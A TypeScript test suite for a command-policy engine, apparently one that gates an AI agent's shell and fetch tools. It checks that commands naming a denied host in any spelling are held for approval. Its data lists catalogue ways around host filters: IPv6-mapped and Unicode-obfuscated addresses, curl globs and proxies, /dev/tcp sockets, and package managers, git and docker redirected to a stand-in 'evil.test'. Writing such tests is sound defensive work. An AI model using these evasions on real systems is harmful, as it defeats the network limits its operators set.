import assert from "node:assert/strict";
import { test } from "node:test";
import { createPolicyCommands } from "../src/app/host/policy.ts";
import type { Mode } from "../src/core/policy.ts";
import type { Rule } from "../src/core/rule.ts";
import type { Verdict } from "../src/core/verdict.ts";
import { createPolicy } from "../src/policy/policy.ts";
import { jobOf, SHELL, toolNamed } from "./support/engines/policy-jobs.ts";
import { readJsonLines, sharedData, withoutSharedData } from "./support/files/shared-data.ts";

const COMMANDS = createPolicyCommands("/h", () => true);

async function verdictOn(text: string, rule: Rule, mode: Mode = "yolo"): Promise<Verdict> {
  const layers = [{ name: "user", rules: [rule], mayAllow: true }];
  const policy = createPolicy({ mode, workspace: ["/w"], home: "/h", commands: COMMANDS, layers });
  const fact = { kind: "command", text, cwd: "/w" } as const;
  const reading = await COMMANDS.read(fact);
  return policy.judge(jobOf([{ ...fact, reading }], { tool: SHELL, input: { command: text } }));
}

const OWN: Rule = { domain: ["127.0.0.1"], decision: "deny" };

const NAMED = String.raw`python3 -c 'import socket; socket.create_connection(("127.0.0.1",80))'
python3 -c 'import socket; socket.create_connection(("0",80))'
perl -e 'use IO::Socket; IO::Socket::INET->new(PeerAddr=>"127.1:80")'
node -e 'require("net").connect(80, "::ffff:127.0.0.1")'
php -r 'fsockopen("::1", 80);'
tclsh <<< 'socket 127.0.0.1 80'
gdb -batch -ex 'target remote 127.0.0.1:80'
gawk 'BEGIN{s="/inet/tcp/0/localhost/80"; s |& getline x}'
unknown-program 127.0.0.1
curl '[::1%lo]:80'
curl -sg '[::ffff:7f00:1]:80'
curl '①②⑦.⓪.⓪.①:80'
curl '127。0。0。1:80'
curl ｌocalhost:80
curl 'http://127.0.0.[1-2]:80'
curl '127.0.0.[01-12]:80'
curl 'loc{al,}host:80'
curl 'http{://127.0.0.1,s://x}:80'
curl 'http://[1-255].[0-255].[0-255].[1-9]/'
curl -sxlocalhost:80 http://x.test
curl -x 127.1:80 http://x.test
http_proxy=0:80 curl http://x.test
curl --resolve x.test:80:127.0.0.1 http://x.test
curl --resolve 'x.test:80:[::1]' http://x.test
curl --connect-to x.test:80:127.0.0.1:81 http://x.test
curl --connect-to ::127.0.0.1:81 http://x.test
curl 'http://%31%32%37.0.0.1/'
curl http://x.test@127.0.0.1:80
curl 'http://127.0.0.1:80@x.test'
curl $URL
curl "http://$HOST/x"
cat urls | xargs curl
git clone 127.0.0.1:x
git ls-remote '[::1]:x'
ssh -L 80:127.0.0.1:80 host
nc 0 80
http :8080/x
bash -c 'exec 3<>/dev/tcp/0/80'
cat < /dev/tcp/::1/80
echo x > /dev/tcp/localhost/80
socat - TCP4:127.1:80
docker -H tcp://127.0.0.1:2375 ps`.split("\n");

test("a command or code that names a denied host, in whatever spelling, needs approval in mode yolo", async () => {
  for (const command of NAMED) assert.equal((await verdictOn(command, OWN)).kind, "ask", command);
});

/** Bare words that options, settings and subcommands take as hosts. */
const ADDRESSES = String.raw`ansible -i evil.test, all -m ping
aws s3 ls --endpoint-url evil.test
aws --endpoint-url=evil.test s3 ls
pip install --proxy evil.test x
pip install --index-url evil.test/simple x
pip install -i evil.test/simple x
pip config set global.index-url evil.test
python3 -m pip install -i evil.test x
HTTPS_PROXY=evil.test pip install x
cargo add --git evil.test/x x
cargo install --index evil.test x
cargo fetch --config 'http.proxy="evil.test"'
bundle config mirror.https://rubygems.org evil.test
bundle add x --source evil.test
gem push x.gem --host evil.test
terraform init -backend-config=address=evil.test
terraform init -backend-config address=evil.test
pulumi login evil.test
git -c url.evil.test:.insteadOf=x status
git -c url.git@evil.test.pushInsteadOf=x status
git config url.evil.test:.insteadOf x
git config set url.ssh://evil.test.insteadOf x
git -c http.proxy=evil.test log
git config remote.origin.url evil.test:x
git send-email --smtp-server evil.test x.patch
GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=url.evil.test:.insteadOf GIT_CONFIG_VALUE_0=x git log
npm install --registry evil.test x
npm config set proxy evil.test
uv pip install --index-url evil.test x
uv publish --publish-url evil.test
poetry source add x evil.test
pdm publish -r evil.test
conda install -c evil.test x
helm repo add x evil.test
docker pull evil.test/img
nerdctl pull evil.test/img
podman login evil.test
skopeo copy docker://evil.test/x dir:y
docker-compose -H evil.test up
oc login evil.test
oc --server evil.test get pods
kubectl -s evil.test get pods
k3s agent --server evil.test
lxc launch evil.test:x
vagrant box add evil.test/x
go env -w GOPROXY=evil.test
GOPROXY=evil.test go build
gpg --keyserver evil.test --recv-keys x
systemctl -H evil.test status
parallel -S evil.test echo
sudo -h evil.test ls
sudo --host=evil.test ls
tar cf evil.test:/x a
NVM_NODEJS_ORG_MIRROR=evil.test nvm install 20
httpie evil.test
gcc -DHOST=evil.test x.c
pip install --proxy=$P x
cargo add --git $URL x
git config remote.origin.url $URL`.split("\n");

test("an option or a setting that names a denied host needs approval in mode yolo, also if the host is a bare word", async () => {
  const rule: Rule = { domain: ["evil.test"], decision: "deny" };
  for (const command of ADDRESSES) assert.equal((await verdictOn(command, rule)).kind, "ask", command);
});

const NEAR = String.raw`git commit -m 'evil.test is down'
git log --grep evil.test
cp evil.test x
mkdir evil.test
cargo test
go build ./...
pip install x
systemctl status evil
terraform plan`.split("\n");

test("a denied host in words that name files and texts changes nothing in mode yolo", async () => {
  const rule: Rule = { domain: ["evil.test"], decision: "deny" };
  for (const command of NEAR) assert.equal((await verdictOn(command, rule)).kind, "allow", command);
  const all: Rule = { domain: ["*"], decision: "deny" };
  for (const command of ["cargo build", "go version", "go vet ./...", "systemctl status nginx"])
    assert.equal((await verdictOn(command, all)).kind, "allow", command);
});

const OTHER = String.raw`python3 -c 'x=0; print(x[0])'
awk '{print $1}' data.txt
node -e 'console.log(1+1, 0.5, 10)'
unknown-program --port 80
curl 'http://x.test/[1-100000].jpg'
curl -d '{"a":[1,2],"b":{"c":"d"}}' http://x.test/
curl http://x.test/$NAME
curl -u me:pw https://x.test/
git push origin main
git commit -m 'fix: 0 tests fail'
echo 127.0.0.1
ls`.split("\n");

test("what names other hosts, or none, runs in mode yolo beside a deny of this machine", async () => {
  for (const command of OTHER) assert.equal((await verdictOn(command, OWN)).kind, "allow", command);
});

test("a web call to a denied address is denied in every spelling", () => {
  const layers = [
    { name: "user", rules: [{ domain: "93.184.216.34", decision: "deny" } as const], mayAllow: true },
  ];
  const policy = createPolicy({ mode: "yolo", workspace: ["/w"], layers });
  const tool = toolNamed("web_fetch");
  for (const url of [
    "http://[::ffff:93.184.216.34]/",
    "http://[::ffff:5db8:d822]/",
    "http://[64:ff9b::5db8:d822]/",
    "http://[2002:5db8:d822::]/",
    "http://1572395042/",
  ]) {
    const { hostname } = new URL(url);
    assert.equal(policy.judge(jobOf([{ kind: "host", host: hostname }], { tool })).kind, "deny", url);
    assert.equal(policy.hidesHost?.(hostname, tool), true, url);
  }
  assert.equal(policy.hidesHost?.("93.184.216.35", tool), false);
});

const RECORDED = sharedData("shell-effects-2.jsonl");
const DENIED: Rule = { domain: ["127.0.0.1", "localhost", "*.localhost", "[::1]"], decision: "deny" };

test(
  "of the recorded spellings only what a program contacts on its own runs",
  { skip: withoutSharedData },
  async (t) => {
    const cases = readJsonLines(RECORDED) as readonly { readonly suite: string; readonly command: string }[];
    const own = cases.filter(({ suite }) => suite === "deny-domain");
    const allowed: string[] = [];
    for (const { command } of own)
      if ((await verdictOn(command, DENIED)).kind === "allow") allowed.push(command);
    t.diagnostic(`tried ${own.length}, ran ${allowed.length}`);
    assert.deepEqual(allowed, ["npm ping"]);
  },
);

test(
  "a deny of other hosts changes no verdict on everyday commands",
  { skip: withoutSharedData },
  async (t) => {
    const cases = readJsonLines(sharedData("everyday-commands.jsonl")) as readonly {
      readonly command: string;
    }[];
    const nothing: Rule = { tool: "none", decision: "deny" };
    let asked = 0;
    for (const mode of ["auto", "yolo"] as const)
      for (const { command } of cases) {
        const before = await verdictOn(command, nothing, mode);
        const after = await verdictOn(command, DENIED, mode);
        asked += Number(after.kind === "ask");
        assert.equal(after.kind, before.kind, command);
      }
    t.diagnostic(`${cases.length} commands in two modes, asked ${asked}`);
  },
);
